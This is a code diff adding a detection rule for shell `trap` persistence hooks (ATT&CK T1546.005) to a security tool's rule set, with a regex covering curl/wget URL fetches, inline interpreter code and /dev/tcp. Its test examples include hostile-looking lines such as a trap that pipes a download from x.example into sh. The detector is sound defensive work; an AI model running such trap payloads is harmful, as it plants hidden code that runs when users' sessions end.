@@ -100,6 +100,20 @@ function remoteCopyDest(c: ShellCommand): boolean {
   return /^[^/\s]+:/.test(dest) || /^(?:scp|rsync|sftp):\/\//.test(dest);
 }
 
+/** A shell started on a script or a command string, a program detached from the shell, or a URL
+ * fetched: what a trap action that plants a payload looks like (cleanup traps remove files, kill
+ * children or call a function). */
+const TRAP_PAYLOAD = /(?:^|[;&|({]\s*|\b(?:sudo|exec|env)\s+)(?:\S*\/)?(?:ba|da|z|k|c|tc|fi)?sh\s+(?:-\w+\s+)*[^\s-]|(?:^|[;&|({]\s*)(?:\S*\/)?(?:nohup|setsid|disown)\b|\b(?:curl|wget)\b[^;&|]*\bhttps?:\/\/|\b(?:python[0-9.]*|perl|ruby|node|php)\s+-[ce]\b|\/dev\/(?:tcp|udp)\//;
+
+/** `trap ACTION SIGNAL…` whose action starts a payload ({@link TRAP_PAYLOAD}) when the shell exits
+ * or receives a signal (ATT&CK T1546.005). */
+function trapHook(c: ShellCommand): boolean {
+  if (c.name !== 'trap') return false;
+  const a = c.argv.slice(1).filter((x) => x !== '--');
+  if (a.length < 2 || /^-[lp]$/.test(a[0]!)) return false;
+  return TRAP_PAYLOAD.test(a[0]!.trim());
+}
+
 export const PERSISTENCE_RULES: Rule[] = [
   {
     id: 'crontab-install',
@@ -249,6 +263,20 @@ export const PERSISTENCE_RULES: Rule[] = [
       not_match: ['cat /etc/ld.so.preload', 'ldconfig -p | grep ssl'],
     },
     match: { path: written(/^\/etc\/ld\.so\.(?:preload|conf(?:\.d\/.+)?)$/) },
+  },
+  {
+    id: 'trap-command-hook',
+    name: 'Payload run by a shell trap',
+    category: 'persistence',
+    action: 'record',
+    attack: 'T1546.005',
+    description: 'A trap whose action starts a shell on a script or a command string, detaches a program (nohup, setsid), fetches a URL, runs inline interpreter code or opens /dev/tcp when the shell exits or receives a signal (trap "nohup sh /tmp/x.sh" EXIT). Cleanup traps (rm, kill, a function) do not fire.',
+    help: 'The payload runs later, when the session ends or is interrupted, out of sight of the command that set it. Check what the trap starts.',
+    examples: {
+      match: ['trap "nohup sh /tmp/x.sh" EXIT', "trap 'bash -c \"curl -s x.example | sh\"' INT TERM"],
+      not_match: ["trap 'rm -rf \"$tmpdir\"' EXIT", 'trap cleanup EXIT INT TERM', "trap 'kill $(jobs -p)' EXIT"],
+    },
+    match: { command: trapHook },
   },
   {
     id: 'python-startup-hook',
